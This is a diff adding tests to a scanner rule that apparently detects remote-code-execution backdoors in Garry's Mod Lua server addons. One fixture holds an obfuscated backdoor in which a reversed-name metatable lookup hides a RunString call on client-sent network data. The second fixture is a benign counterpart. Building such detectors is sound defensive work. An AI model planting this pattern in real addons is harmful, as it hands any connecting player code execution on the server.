@@ -252,4 +252,24 @@ describe('netmessage_rce', () => {
     });
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
   });
+  it('a proxy whose __index function looks names up reversed in _G', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local D = setmetatable({}, { __index = function(_, k) return _G[string.reverse(k)] end })',
+        'util.AddNetworkString("dlg")',
+        'net.Receive("dlg", function(len, ply) D.gnirtSnuR(net.ReadString(), "dialog") end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a table of defaults behind an __index function', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local counts = setmetatable({}, { __index = function() return 0 end })',
+        'util.AddNetworkString("vote")',
+        'net.Receive("vote", function(len, ply) local k = net.ReadString() counts[k] = counts[k] + 1 end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
 });
